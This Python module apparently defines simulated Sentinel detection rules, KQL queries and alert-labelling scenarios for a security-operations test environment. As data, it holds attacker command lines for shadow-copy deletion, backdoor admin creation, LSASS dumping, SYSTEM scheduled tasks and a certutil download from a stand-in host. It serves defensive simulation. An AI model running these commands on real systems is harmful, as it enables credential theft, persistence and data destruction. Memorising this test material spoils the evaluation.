"""The simulated analytic rules (Sentinel scheduled rules) and the scenarios behind their alerts.

A scenario decides an incident's entities and its eventual classification:
  background     benign/background pool entities → BenignPositive / FalsePositive (a few Undetermined)
  attacker       attacker pool entities (disjoint from background) → TruePositive
  svc_inventory  planted: inventory service account → always BenignPositive
  jdoe_benign    planted: account jdoe on its own workstation → BenignPositive / FalsePositive
  scanner        planted: vulnerability scanner 10.20.30.40 → BenignPositive / FalsePositive
  backup_pair    planted: svc_backup on srv-backup01 → always BenignPositive
  lotl_tp        planted: an attacker runs the rule's subject binary from the very System32 folder
                 benign admins use (living off the land) → TruePositive, closed in the backtest window
  lotl_fresh_tp  the same on the world's last day, still under investigation (open, unlabelled)
  upn_tp         planted: a busy hybrid user's cloud identity forwards mail out → TruePositive,
                 recorded under the UPN (with the on-premises SID) only
Most attacker alerts run the 32-bit (SysWOW64) copies of system binaries from 32-bit implants, but
the living-off-the-land attacks share the image file with benign alerts: only a subject guard, not
disjoint pools, keeps an exclusion of `C:\Windows\System32\vssadmin.exe` from hiding them.
Planted true positives (srv-backup01 with attacker accounts, svc_backup on attacker hosts, jdoe on
attacker hosts, living off the land) are scheduled on fixed days, see world.py.
"""

from __future__ import annotations

from dataclasses import dataclass

# Entity layouts of an alert.
LOGON, SCAN, PROCESS, C2, MAIL = "logon", "scan", "process", "c2", "mail"

LABELS = {
    # scenario -> (classification, probability) pairs
    "background": (("BenignPositive", 0.55), ("FalsePositive", 0.40), ("Undetermined", 0.05)),
    "attacker": (("TruePositive", 1.0),),
    "svc_inventory": (("BenignPositive", 1.0),),
    "jdoe_benign": (("BenignPositive", 0.8), ("FalsePositive", 0.2)),
    "scanner": (("BenignPositive", 0.6), ("FalsePositive", 0.4)),
    "backup_pair": (("BenignPositive", 1.0),),
    "planted_tp": (("TruePositive", 1.0),),
}
REASONS = {
    "TruePositive": ("SuspiciousActivity",),
    "BenignPositive": ("SuspiciousButExpected",),
    "FalsePositive": ("IncorrectAlertLogic", "InaccurateData"),
    "Undetermined": (None,),
}
COMMENTS = {
    "TruePositive": "Confirmed malicious; host isolated and credentials reset.",
    "BenignPositive": "Expected activity by a known service or administrator.",
    "FalsePositive": "Rule logic matched legitimate traffic.",
    "Undetermined": "Not enough evidence to decide.",
}


@dataclass(frozen=True)
class Rule:
    key: str
    name: str
    severity: str
    tactics: str
    techniques: tuple[str, ...]
    kind: str
    weight: float  # share of the alert volume before normalisation
    noisy: bool
    scenarios: tuple[tuple[str, float], ...]
    data_source: str
    query: str
    query_period: str = "1.00:00:00"
    frequency: str = "01:00:00"
    # process command lines (process rules) of benign and of malicious alerts: disjoint sets
    benign_commands: tuple[tuple[str, str], ...] = ()
    attacker_commands: tuple[tuple[str, str], ...] = ()

    def living_off_the_land(self) -> tuple[str, str] | None:
        """The first attacker command line whose image benign alerts also run, with the benign
        image folder (the System32 copy): the attack shares its image file with the benign pool."""
        benign_folder = {image_name(cmd): folder for cmd, folder in self.benign_commands}
        for cmd, _ in self.attacker_commands:
            if image_name(cmd) in benign_folder:
                return cmd, benign_folder[image_name(cmd)]
        return None


def image_name(command_line: str) -> str:
    """The image file name a command line starts with (`"C:\\x\\a.exe" /b` -> `a.exe`)."""
    return command_line.split()[0].strip('"').rsplit("\\", 1)[-1].lower()


RULES = (
    Rule("A", "Multiple failed logons for a single account", "Medium", "CredentialAccess", ("T1110",), LOGON,
         26, True, (("svc_inventory", 0.40), ("jdoe_benign", 0.12), ("background", 0.33), ("attacker", 0.15)),
         "SecurityEvent",
         "SecurityEvent | where EventID == 4625 | summarize FailedLogons = count() by TargetAccount, Computer, "
         "IpAddress | where FailedLogons > 10"),
    Rule("B", "Port scan detected against internal hosts", "Low", "Discovery", ("T1046",), SCAN, 20, True,
         (("scanner", 0.38), ("background", 0.42), ("attacker", 0.20)), "DeviceNetworkEvents",
         "DeviceNetworkEvents | where ActionType == 'ConnectionFailed' | summarize Ports = dcount(RemotePort) "
         "by DeviceName, LocalIP | where Ports > 20"),
    Rule("C", "Volume shadow copy deletion", "High", "Impact", ("T1490",), PROCESS, 14, True,
         (("backup_pair", 0.45), ("background", 0.40), ("attacker", 0.15)), "DeviceProcessEvents",
         "DeviceProcessEvents | where FileName =~ 'vssadmin.exe' and ProcessCommandLine has_any ('delete', "
         "'resize')",
         benign_commands=(
             ("vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=10%", r"C:\Windows\System32"),
             ("vssadmin.exe delete shadows /for=D: /oldest /quiet", r"C:\Windows\System32"),
         ),
         attacker_commands=(
             ("vssadmin.exe delete shadows /all /quiet", r"C:\Windows\SysWOW64"),
             ("wmic.exe shadowcopy delete /nointeractive", r"C:\Windows\SysWOW64\wbem"),
         )),
    Rule("E", "Rare RDP logon to server", "Medium", "LateralMovement", ("T1021.001",), LOGON, 16, True,
         (("background", 0.78), ("attacker", 0.22)), "SecurityEvent",
         "SecurityEvent | where EventID == 4624 and LogonType == 10 | summarize count() by TargetAccount, "
         "Computer, IpAddress"),
    Rule("D", "Encoded PowerShell command executed", "High", "Execution", ("T1059.001", "T1027"), PROCESS, 4,
         False, (("background", 0.25), ("attacker", 0.75)), "DeviceProcessEvents",
         "DeviceProcessEvents | where FileName in~ ('powershell.exe', 'pwsh.exe') and ProcessCommandLine "
         "has_any ('-enc', '-EncodedCommand')",
         benign_commands=(
             ("powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBIAG8AdABGAGkAeAA=",
              r"C:\Windows\System32\WindowsPowerShell\v1.0"),
             ("powershell.exe -ExecutionPolicy Bypass -enc UwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQA=",
              r"C:\Windows\System32\WindowsPowerShell\v1.0"),
         ),
         attacker_commands=(
             ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
              r"C:\Windows\SysWOW64\WindowsPowerShell\v1.0"),
             ("powershell.exe -w 1 -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==",
              r"C:\Windows\SysWOW64\WindowsPowerShell\v1.0"),
         )),
    Rule("F", "New local administrator account created", "Medium", "Persistence,PrivilegeEscalation",
         ("T1136.001", "T1098"), PROCESS, 3, False, (("background", 0.25), ("attacker", 0.75)), "SecurityEvent",
         "SecurityEvent | where EventID == 4732 and TargetUserName == 'Administrators'",
         benign_commands=(("net.exe localgroup administrators CONTOSO\\helpdesk /add", r"C:\Windows\System32"),),
         attacker_commands=(("net.exe user support$ P@ssw0rd! /add", r"C:\Windows\SysWOW64"),
                            ("net.exe localgroup administrators support$ /add", r"C:\Windows\SysWOW64"))),
    Rule("G", "LSASS memory access by untrusted process", "High", "CredentialAccess", ("T1003.001",), PROCESS,
         2, False, (("background", 0.25), ("attacker", 0.75)), "DeviceEvents",
         "DeviceEvents | where ActionType == 'OpenProcessApiCall' and FileName =~ 'lsass.exe'",
         benign_commands=(('"procexp64.exe" /accepteula', r"C:\Tools\Sysinternals"),),
         attacker_commands=(("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Temp\\l.dmp full",
                             r"C:\Windows\SysWOW64"),
                            ("procdump64.exe -ma lsass.exe C:\\Users\\Public\\out.dmp", r"C:\Users\Public"))),
    Rule("H", "Outbound connection to known C2 infrastructure", "High", "CommandAndControl", ("T1071.001",), C2,
         3, False, (("background", 0.25), ("attacker", 0.75)), "CommonSecurityLog",
         "CommonSecurityLog | where DestinationIP in (ThreatIntelIndicators) | summarize count() by SourceIP, "
         "DestinationIP"),
    Rule("I", "Mailbox forwarding rule to external domain", "Medium", "Exfiltration,Collection",
         ("T1114.003",), MAIL, 2, False, (("background", 0.25), ("attacker", 0.75)), "OfficeActivity",
         "OfficeActivity | where Operation in ('New-InboxRule', 'Set-InboxRule') and Parameters has "
         "'ForwardTo'"),
    Rule("J", "Kerberoasting: burst of service ticket requests", "Medium", "CredentialAccess", ("T1558.003",),
         LOGON, 2, False, (("background", 0.25), ("attacker", 0.75)), "SecurityEvent",
         "SecurityEvent | where EventID == 4769 and TicketEncryptionType == '0x17' | summarize dcount("
         "ServiceName) by TargetUserName, IpAddress | where dcount_ServiceName > 10"),
    Rule("K", "Scheduled task created from temporary folder", "Medium", "Persistence,Execution",
         ("T1053.005",), PROCESS, 3, False, (("background", 0.25), ("attacker", 0.75)), "DeviceProcessEvents",
         "DeviceProcessEvents | where FileName =~ 'schtasks.exe' and ProcessCommandLine has '/create' and "
         "ProcessCommandLine has_any ('\\\\Temp\\\\', '\\\\AppData\\\\')",
         benign_commands=(('schtasks.exe /create /tn "AdobeGCInvoker" /tr "C:\\Users\\Public\\AppData\\Local\\'
                           'Temp\\AdobeGC.exe" /sc daily', r"C:\Windows\System32"),),
         attacker_commands=(('schtasks.exe /create /tn "OneDriveUpdate" /tr "C:\\Users\\Public\\AppData\\Local\\'
                             'Temp\\upd4te.exe" /sc onlogon /ru SYSTEM', r"C:\Windows\SysWOW64"),)),
    Rule("L", "Suspicious download via certutil", "Medium", "CommandAndControl,DefenseEvasion",
         ("T1105", "T1140"), PROCESS, 2, False, (("background", 0.25), ("attacker", 0.75)),
         "DeviceProcessEvents",
         "DeviceProcessEvents | where FileName =~ 'certutil.exe' and ProcessCommandLine has_any ('urlcache', "
         "'-decode')",
         benign_commands=(("certutil.exe -urlcache -f http://pki.contoso.local/crl/root.crl root.crl",
                           r"C:\Windows\System32"),),
         attacker_commands=(("certutil.exe -urlcache -split -f http://203.0.113.66/a.txt C:\\Users\\Public\\a.exe",
                             r"C:\Windows\SysWOW64"),)),
)
